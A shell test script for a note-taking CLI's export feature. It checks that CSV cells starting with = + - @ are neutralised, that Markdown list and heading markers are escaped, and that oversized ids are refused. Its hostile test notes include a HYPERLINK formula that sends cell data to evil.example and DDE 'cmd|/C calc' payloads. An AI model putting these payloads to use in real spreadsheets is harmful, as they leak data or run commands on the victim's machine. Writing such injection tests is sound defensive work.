#!/bin/bash
# tests/cli/export-cells.sh: what a note says reaches other programs as
# text: a CSV cell that a spreadsheet would run as a formula (= + - @) is
# neutralised, and Markdown shows a note's "- ", "1. ", "===" lines as
# written, not as lists or headings.
. "$top_srcdir/tests/tui/lib.sh"

: "${PYTHON3:=python3}"
[ -n "$PYTHON3" ] || PYTHON3=python3
DB="$TEST_TMP/c.db"
ART="$TEST_TMP/talks.txt"
d() { "$DOSSIER" --db "$DB" "$@"; }
cat >"$ART" <<'TXT'
Talks in Moscow

The foreign ministers met in Moscow on Tuesday. The minister said the corridor would reopen within a week.
TXT
d -q import "$ART"; tap_ok $? "article imported"
d annotate 1 --quote "foreign ministers" --note '=HYPERLINK("http://evil.example/?"&A1,"click")' >/dev/null &&
	d annotate 1 --quote "met in Moscow" --note '+1+cmd|'"'"'/C calc'"'"'!A0' >/dev/null &&
	d annotate 1 --quote "on Tuesday" --note '-2+3' >/dev/null &&
	d annotate 1 --quote "The minister" --note '@SUM(1+1)*cmd|'"'"'/C calc'"'"'!A0' >/dev/null &&
	d annotate 1 --quote "would reopen" --note $'a first line\n- not a list\n1. not a list either\n===\n  2) nor this\n+ nor this\n~~~\nend' >/dev/null
tap_ok $? "five annotations with hostile notes"

d export --format csv -o "$TEST_TMP/out.csv"
"$PYTHON3" - "$TEST_TMP/out.csv" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
assert len(rows) == 5, rows
for r in rows:
    for k, v in r.items():
        assert not v or v[0] not in "=+-@\t\r", (k, v)
notes = {r["quote"]: r["note"] for r in rows}
assert notes["foreign ministers"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", notes
assert notes["on Tuesday"] == "'-2+3", notes
PY
tap_ok $? "CSV: no cell starts with = + - @; the text is kept after an apostrophe"

d export --format markdown -o "$TEST_TMP/out.md"
"$PYTHON3" - "$TEST_TMP/out.md" <<'PY'
import re, sys
md = open(sys.argv[1], encoding="utf-8").read()
lines = md.split("\n")
bad = [l for l in lines if re.match(r"^\s*([-+*]\s|\d+[.)]\s|=+\s*$|-+\s*$|~~~)", l)]
assert not bad, bad
for want in (r"\- not a list", r"1\. not a list either", r"\===", r"  2\) nor this", r"\+ nor this", r"\~~~"):
    assert want in md, (want, md)
PY
tap_ok $? "Markdown: a note's lines are not read as lists, headings or fences"

# Ids: a number past the largest is an error, never the largest id.
err=$(d show 9223372036854775808 2>&1); rc=$?
[ $rc -eq 2 ] && grep -q "'9223372036854775808' is not an article ID" <<<"$err"
tap_ok $? "show 9223372036854775808: refused, not clamped ($err)"
err=$(d show 9223372036854775807 2>&1); rc=$?
[ $rc -eq 1 ] && grep -q "9223372036854775807" <<<"$err"; tap_ok $? "the largest id is looked up ($err)"
err=$(d export --article 99999999999999999999 2>&1); rc=$?
[ $rc -eq 2 ]; tap_ok $? "export --article past the largest id: usage error ($err)"

tap_done
